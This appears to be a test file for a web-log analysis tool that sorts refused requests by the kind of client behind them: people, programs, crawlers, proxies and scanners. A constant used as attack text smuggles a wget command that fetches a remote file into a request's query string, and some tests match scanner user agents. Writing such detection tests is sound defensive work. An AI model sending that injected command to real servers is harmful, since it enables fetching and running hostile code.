// Each kind of client: a client of that kind, one that is nearly of that kind, and one that pretends to be.
import { describe, expect, test } from 'vitest';
import { hash32 } from '../../../src/hits/hash.ts';
import type { CauseId } from '../../../src/judge/catalogue.ts';
import { type ClientKind, isAttacker, turnedOut, whoSent } from '../../../src/judge/clients/who.ts';
import { HitView } from '../../../src/judge/evidence/view.ts';
import { entryOf, FIREFOX, hitOf, type Line, tablesOf } from '../literal.ts';
import { pair } from '../pair.ts';
import { logscan } from '../../fake-host.ts';

const CURL = 'curl/8.5.0';
const namesScanner = (http_user_agent: string): boolean => isAttacker({ request: 'GET / HTTP/1.1', http_user_agent });
const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const KUBE = 'kube-probe/1.28';
const PRIVATE = '10.0.0.5';
const PAGE: Line = { at: -600, request: 'GET /shop HTTP/1.1' };
const STYLE: Line = { at: -600, request: 'GET /shop.css HTTP/1.1', http_referer: 'https://a.example/shop' };
const SHELL = 'GET /x?a=$(wget%20http://192.0.2.66/m) HTTP/1.1';
const REFUSED: Line = { request: 'GET /basket HTTP/1.1', status: 400, body_bytes_sent: 157 };

/** Who sent a refused line, after these lines in the log. */
function who(
  line: Line,
  seen: readonly Line[] = [],
  cause: CauseId = 'invalid-header',
  after: readonly Line[] = [],
): ClientKind {
  const last: Line = { ...REFUSED, ...line };
  const tables = tablesOf([...seen, last]);
  const { client } = entryOf(last);
  const near = seen.filter((one) => (one.at ?? 0) >= -120 && entryOf(one).client === client).toReversed();
  return whoSent(new HitView(hitOf(last, near, after), tables), cause, tables).kind;
}

const by = (http_user_agent: string, ...lines: readonly Line[]): Line[] =>
  lines.map((line) => ({ ...line, http_user_agent }));
const at = (...times: readonly number[]): Line[] =>
  times.map((time) => ({ at: time, request: `GET /${time} HTTP/1.1` }));
/** Many people behind one address. */
const crowdOf = (client: string): Line[] =>
  Array.from({ length: 400 }, (_, i) => ({
    at: -900,
    client,
    http_user_agent: `Mozilla/5.0 (X11; n${i % 40}) Gecko/1`,
  }));

describe('a person', () => {
  test('loaded a page and its style, or followed a link', () => {
    expect(who({}, [PAGE, STYLE])).toBe('person');
    expect(
      who({}, [
        { ...STYLE, client: '192.0.2.8' },
        { ...PAGE, http_referer: 'https://a.example/' },
      ]),
    ).toBe('person');
    expect(
      who({}, [], 'invalid-header', [
        { ...PAGE, at: 2 },
        { ...STYLE, at: 3 },
      ]),
    ).toBe('person');
  });

  test('has cookies that are too large, which only a visited site sets, or uploads from a page of this site', () => {
    expect(who({}, [], 'cookie-or-header-too-large')).toBe('person');
    expect(who({ http_referer: 'https://a.example/form' }, [], 'upload-cut-short')).toBe('person');
    expect(who({}, [], 'upload-cut-short')).toBe('stranger');
    expect(who({ http_user_agent: CURL }, [], 'cookie-or-header-too-large')).toBe('stranger');
  });

  test('is not a client that only loaded a page, only a page and an icon, or calls itself a program', () => {
    expect(who({}, [PAGE])).toBe('stranger');
    expect(who({}, [PAGE, { ...STYLE, request: 'GET /favicon.ico HTTP/1.1', http_referer: '-' }])).toBe('stranger');
    expect(who({ http_user_agent: CURL }, by(CURL, PAGE, STYLE))).toBe('stranger');
  });

  test('is not a client that makes up its referer, or that attacks and is mostly refused', () => {
    const [first] = [{ ...STYLE, client: '192.0.2.8' }];
    expect(who({}, [first, { ...PAGE, http_referer: 'https://a.example/shop' }])).toBe('stranger');
    expect(who({}, [first, { ...PAGE, http_referer: 'https://spam.example/' }])).toBe('stranger');
    expect(who({}, [first, { at: -600, http_referer: 'https://a.example/x' }])).toBe('stranger');
    expect(who({ request: SHELL }, [STYLE, PAGE])).toBe('person');
    expect(who({ request: SHELL }, [PAGE, STYLE, ...at(-5, -4).map((line) => ({ ...line, status: 404 }))])).toBe(
      'scanner',
    );
  });
});

describe('a program', () => {
  pair('who', 'LEAST_ANSWERS', {
    inside: () => expect(who({ http_user_agent: CURL }, by(CURL, ...at(-100, -60, -30)))).toBe('program'),
    outside: () => expect(who({ http_user_agent: CURL }, by(CURL, ...at(-100, -60)))).toBe('stranger'),
  });

  pair('who', 'LEAST_KNOWN_SECONDS', {
    inside: () => expect(who({ http_user_agent: CURL }, by(CURL, ...at(-60, -40, -20)))).toBe('program'),
    outside: () => expect(who({ http_user_agent: CURL }, by(CURL, ...at(-59, -40, -20)))).toBe('stranger'),
  });

  pair('who', 'LEAST_REPEATS', {
    inside: () =>
      expect(
        who(
          { client: PRIVATE },
          [REFUSED, REFUSED].map((line) => ({ ...line, client: PRIVATE })),
        ),
      ).toBe('program'),
    outside: () => expect(who({ client: PRIVATE }, [{ ...REFUSED, client: PRIVATE }])).toBe('stranger'),
  });

  test('an application refuses everybody, and this client asks again and again', () => {
    const refused = (times: number, agent = CURL): Line[] => by(agent, ...Array.from({ length: times }, () => REFUSED));
    const user = (seen: readonly Line[], cause: CauseId = 'application-400', agent = CURL): ClientKind =>
      who({ http_user_agent: agent }, seen, cause);
    expect(user(refused(2))).toBe('program');
    expect(user(refused(1))).toBe('stranger');
    // Others were answered, so this client may be a stranger.
    expect(user([...refused(2), { ...PAGE, client: '198.51.100.9' }])).toBe('stranger');
    expect(user(refused(2), 'invalid-header')).toBe('stranger');
    expect(user(refused(2, '-'), 'application-400', '-')).toBe('scanner');
  });

  test('wrote something that was accepted', () => {
    const wrote = (request: string, status: number): ClientKind =>
      who({ http_user_agent: CURL }, by(CURL, { at: -300, request, status }));
    expect(wrote('POST /orders HTTP/1.1', 201)).toBe('program');
    expect(wrote('POST /orders HTTP/1.1', 200)).toBe('stranger');
    expect(wrote('DELETE /orders/7 HTTP/1.1', 200)).toBe('program');
    expect(wrote('OPTIONS /orders HTTP/1.1', 204)).toBe('stranger');
    expect(wrote('PUT /orders HTTP/1.1', 405)).toBe('stranger');
  });

  test('asks the application for a path where others were answered', () => {
    const others: Line = { at: -300, client: '192.0.2.8', request: 'GET /basket HTTP/1.1' };
    expect(who({ http_user_agent: CURL }, [others], 'application-400')).toBe('program');
    expect(who({ http_user_agent: CURL }, [others])).toBe('stranger');
    expect(who({}, [others], 'application-400')).toBe('stranger');
    const front = { ...others, request: 'GET / HTTP/1.1' };
    expect(who({ http_user_agent: CURL, request: 'GET / HTTP/1.1' }, [front], 'application-400')).toBe('stranger');
  });

  test('is not a client that was refused more often than answered, or that sends attack text', () => {
    const refused = at(-9, -8, -7).map((line) => ({ ...line, status: 404 }));
    expect(who({ http_user_agent: CURL }, by(CURL, ...at(-100, -60, -30), ...refused))).toBe('stranger');
    const wrote: Line = { at: -300, request: 'POST /orders HTTP/1.1', status: 201 };
    expect(who({ http_user_agent: CURL, request: SHELL }, by(CURL, wrote))).toBe('scanner');
  });
});

describe('a monitor, a crawler', () => {
  test('name themselves', () => {
    expect(who({ http_user_agent: KUBE })).toBe('monitor');
    expect(who({ http_user_agent: GOOGLEBOT })).toBe('crawler');
  });

  test('are not clients whose user agents only look like theirs', () => {
    expect(who({ http_user_agent: CURL })).toBe('stranger');
    expect(who({ http_user_agent: FIREFOX.replace('Linux', 'Cubot') })).toBe('stranger');
  });

  test('are scanners when they attack', () => {
    expect(who({ http_user_agent: `${KUBE} zgrab/0.x` })).toBe('scanner');
    expect(who({ http_user_agent: GOOGLEBOT, request: SHELL })).toBe('scanner');
    expect(who({ http_user_agent: KUBE }, by(KUBE, { at: -9, request: SHELL, status: 404 }))).toBe('scanner');
  });
});

describe('somebody behind a proxy', () => {
  const agent = 'Mozilla/5.0 (X11; n99) Gecko/1';

  test('shares a private address with many', () => {
    expect(who({ client: PRIVATE, http_user_agent: FIREFOX }, crowdOf(PRIVATE))).toBe('proxy');
  });

  test('is not a client with a private address of its own, or behind a shared public address', () => {
    expect(who({ client: PRIVATE })).toBe('stranger');
    expect(who({ client: '192.0.2.99', http_user_agent: FIREFOX }, crowdOf('192.0.2.99'))).toBe('stranger');
  });

  test('is a scanner if it sends attack text, and the other clients of the address keep their kind', () => {
    const attack: Line = { client: PRIVATE, http_user_agent: FIREFOX, request: SHELL };
    expect(who(attack, crowdOf(PRIVATE))).toBe('scanner');
    expect(who({ client: PRIVATE, http_user_agent: agent }, [...crowdOf(PRIVATE), { ...attack, at: -5 }])).toBe(
      'proxy',
    );
  });
});

describe('a scanner', () => {
  pair('who', 'LEAST_REFUSALS', {
    inside: () =>
      expect(
        who(
          {},
          at(-500, -400).map((line) => ({ ...line, status: 404 })),
        ),
      ).toBe('scanner'),
    outside: () =>
      expect(
        who(
          {},
          at(-500).map((line) => ({ ...line, status: 404 })),
        ),
      ).toBe('stranger'),
  });

  pair('who', 'LEAST_CLIENTS_REFUSED', {
    inside: () =>
      expect(
        who(
          {},
          ['192.0.2.8', '192.0.2.9'].map((client) => ({ ...REFUSED, client })),
        ),
      ).toBe('scanner'),
    outside: () => expect(who({}, [{ ...REFUSED, client: '192.0.2.8' }])).toBe('stranger'),
  });

  test('has no user agent, names itself a scanner, or pretends to be a browser with a user agent that no browser sends', () => {
    expect(who({ http_user_agent: '-' })).toBe('scanner');
    expect(who({ http_user_agent: 'Mozilla/5.0 zgrab/0.x' })).toBe('scanner');
    expect(who({ http_user_agent: 'Mozilla/5.0' })).toBe('scanner');
    expect(
      ['masscan/1.3', 'CensysInspect/1.1', 'Expanse, a Palo Alto Networks company'].map(namesScanner),
    ).not.toContain(false);
    expect([FIREFOX, CURL, 'scandinavia/1.0'].map(namesScanner)).not.toContain(true);
  });

  test('is not a client that was answered, only repeats one request, or sent nothing', () => {
    expect(who({ http_user_agent: '-' }, by('-', ...at(-500)))).toBe('stranger');
    expect(who({}, [REFUSED, REFUSED, REFUSED])).toBe('stranger');
    expect(who({ request: '-', body_bytes_sent: 0, http_user_agent: '-' }, [], 'port-scan')).toBe('stranger');
    const others = ['192.0.2.8', '192.0.2.9', '192.0.2.10'].map((client) => ({ ...REFUSED, client }));
    expect(who({}, [...others, { ...REFUSED, client: '192.0.2.11', status: 200 }])).toBe('stranger');
    expect(
      who(
        { request: 'GET / HTTP/1.1' },
        others.map((line) => ({ ...line, request: 'GET / HTTP/1.1' })),
      ),
    ).toBe('stranger');
  });

  test('stays a scanner after its attack', () => {
    const tables = tablesOf([{ ...REFUSED, at: -600, request: SHELL }]);
    const ask = (line: Line): ClientKind => {
      const view = new HitView(hitOf({ ...REFUSED, ...line }), tables);
      const { kind, client, attacks } = whoSent(view, 'invalid-header', tables);
      tables.clients.learn(client, view.history, attacks);
      return kind;
    };
    expect(ask({})).toBe('stranger');
    expect(ask({ at: -600, request: SHELL })).toBe('scanner');
    expect(ask({})).toBe('scanner');
  });
});

describe('what a client turned out to be', () => {
  /** Who sent a refused line, by all lines of the log. `then` is the kind of the client when the line was judged. */
  function turned(then: ClientKind, lines: readonly Line[], line: Line = {}): ClientKind {
    const refused = { ...REFUSED, ...line };
    const entry = entryOf(refused);
    return turnedOut(then, hash32(entry.client), entry, 'invalid-header', tablesOf([refused, ...lines])).kind;
  }
  const later = (line: Line): Line => ({ ...line, at: 600 });

  test('a stranger that later loads a page and its style is a person', () => {
    expect(turned('stranger', [later(PAGE), later(STYLE)])).toBe('person');
    expect(turned('stranger', [later(PAGE)])).toBe('stranger');
  });

  test('a private address that later repeats its request is a program', () => {
    const call = { ...REFUSED, client: PRIVATE };
    expect(turned('stranger', [later(call), later(call)], call)).toBe('program');
    expect(turned('stranger', [later(call)], call)).toBe('stranger');
    expect(turned('proxy', [later(call), later(call)], call)).toBe('proxy');
    expect(turned('stranger', [later(REFUSED), later(REFUSED)])).toBe('stranger');
  });

  test('a stranger is a scanner if others are later refused at the same path, unless the stranger was answered', () => {
    const others = ['192.0.2.50', '192.0.2.51'].map((client) => later({ ...REFUSED, client }));
    expect(turned('stranger', others)).toBe('scanner');
    expect(turned('stranger', others.slice(1))).toBe('stranger');
    expect(turned('stranger', [...others, later({ request: 'GET /other HTTP/1.1' })])).toBe('stranger');
  });

  test('if the neighbours of the hit showed the kind, it stays', () => {
    expect(turned('person', [])).toBe('person');
    expect(turned('scanner', [])).toBe('scanner');
  });
});

test('with --since a client is known from that time on', async () => {
  const visitorAt = (clock: string): string => `192.0.2.7 - - [22/Nov/2026:${clock} +0000]`;
  const log = [
    `${visitorAt('10:00:00')} "GET / HTTP/1.1" 200 5120 "-" "${FIREFOX}"`,
    `${visitorAt('10:00:01')} "GET /a.css HTTP/1.1" 200 900 "https://shop.example/" "${FIREFOX}"`,
    `${visitorAt('12:00:00')} "POST /order HTTP/1.1" 400 57 "-" "${FIREFOX}"`,
    '',
  ].join('\n');
  const verdicts = async (...words: string[]): Promise<(string | undefined)[]> => {
    const { stdout } = await logscan(['--format', 'ndjson', ...words], { stdin: log });
    return [...stdout.matchAll(/"type":"finding".*?"verdict":"(\w+)"/g)].map(([, verdict]) => verdict);
  };
  expect(await verdicts()).toEqual(['fix']);
  expect(await verdicts('--since', '2026-11-22T09:00')).toEqual(['fix']);
  expect(await verdicts('--since', '2026-11-22T11:00')).toEqual(['unknown']);
});

describe('a client without user agent that was never answered', () => {
  const NAMELESS: Line = { http_user_agent: '-' };
  const before = (times: number): Line[] =>
    Array.from({ length: times }, (_, i) => ({ ...REFUSED, ...NAMELESS, at: -60 * (times - i) }));

  // A device sends its one request again and again.
  pair('who', 'LEAST_REPEATS_OF_ONE', {
    inside: () => expect(who(NAMELESS, before(3))).toBe('stranger'),
    outside: () => expect(who(NAMELESS, before(2))).toBe('scanner'),
  });

  test('is a scanner if it also tries something else', () => {
    const other: Line = { ...NAMELESS, ...REFUSED, at: -300, request: 'GET /admin HTTP/1.1' };
    expect(who(NAMELESS, [other, ...before(3)])).toBe('scanner');
  });

  test('is nobody known where the log has no user agents', () => {
    expect(who({ ...NAMELESS, lacksUserAgent: true })).toBe('stranger');
    expect(who(NAMELESS)).toBe('scanner');
  });
});

test('somebody inside whom the application refused is no stranger', () => {
  expect(who({ client: PRIVATE }, [], 'application-400')).toBe('proxy');
  expect(who({}, [], 'application-400')).toBe('stranger');
  expect(who({ client: PRIVATE, request: SHELL }, [], 'application-400')).toBe('scanner');
});

describe('requests in another protocol', () => {
  const HELLO: Line = { request: '\\x16\\x03\\x01', status: 400, http_user_agent: '-' };
  const of = (line: Line, seen: readonly Line[] = [], cause: CauseId = 'tls-to-plain-port'): ClientKind =>
    who({ ...HELLO, ...line }, seen, cause);

  test('come from a scanner, unless the address is private', () => {
    expect(of({})).toBe('scanner');
    expect(of({ client: PRIVATE })).toBe('stranger');
    expect(
      of({ client: PRIVATE }, [
        { ...HELLO, client: PRIVATE },
        { ...HELLO, client: PRIVATE },
      ]),
    ).toBe('program');
    const tries = ['a', 'b', 'c'].map((text): Line => ({ ...HELLO, client: PRIVATE, request: `\\x16\\x03${text}` }));
    expect(of({ client: PRIVATE }, tries)).toBe('scanner');
    expect(who({ client: PRIVATE }, tries)).toBe('stranger');
  });

  test('come through a proxy of the operator, if nginx answers other requests of an address of many people', () => {
    const answered: Line = { at: -9, request: 'GET /shop HTTP/1.1', status: 301 };
    expect(of({}, [...crowdOf('192.0.2.7'), answered])).toBe('proxy');
    expect(of({}, [...crowdOf('192.0.2.7'), { ...answered, status: 404 }])).not.toBe('proxy');
    expect(of({}, [answered])).not.toBe('proxy');
  });
});

test('a log that names no client knows nobody, whatever its other lines show', () => {
  const seen = [PAGE, STYLE].map((line): Line => ({ ...line, client: '-' }));
  expect(who({ client: '-' }, seen)).toBe('stranger');
  expect(who({ client: '-', request: SHELL }, seen)).toBe('scanner');
  expect(who({ client: '-' }, [{ ...REFUSED, client: '-', request: SHELL }])).toBe('stranger');
});
